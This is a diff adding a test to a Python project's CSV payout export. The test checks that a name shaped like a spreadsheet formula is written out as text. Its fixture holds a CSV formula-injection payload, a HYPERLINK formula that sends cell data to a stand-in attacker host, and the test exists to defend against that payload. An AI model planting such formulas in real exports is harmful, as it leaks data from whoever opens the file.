@@ -149,3 +149,16 @@ def test_hitbot_report_payouts_writes_the_csv(database, threshold, tmp_path):
     bad = subprocess.run([sys.executable, "-c", "from hitbot.cli import main; raise SystemExit(main())", "report",
                           "payouts", "--year", "twenty"], env=env, capture_output=True, text=True, timeout=120, check=False)
     assert bad.returncode == 2 and "not a whole number" in bad.stderr
+
+
+def test_a_name_that_looks_like_a_formula_is_written_as_text(database, threshold):
+    import csv
+    import io
+
+    mal = f.requester(8_00, name='=HYPERLINK("https://evil.example/?"&A1,"click")')
+    accounts.withdraw(worker_id=mal.id, now=NOW, key="f1", amount_cents=2_00)
+    out = io.StringIO()
+    tax.write_payouts_csv(year=NOW.year, out=out)
+    rows = list(csv.reader(io.StringIO(out.getvalue())))
+    assert rows[1][1] == "'" + '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    assert rows[1][3] == "200"  # numbers stay numbers
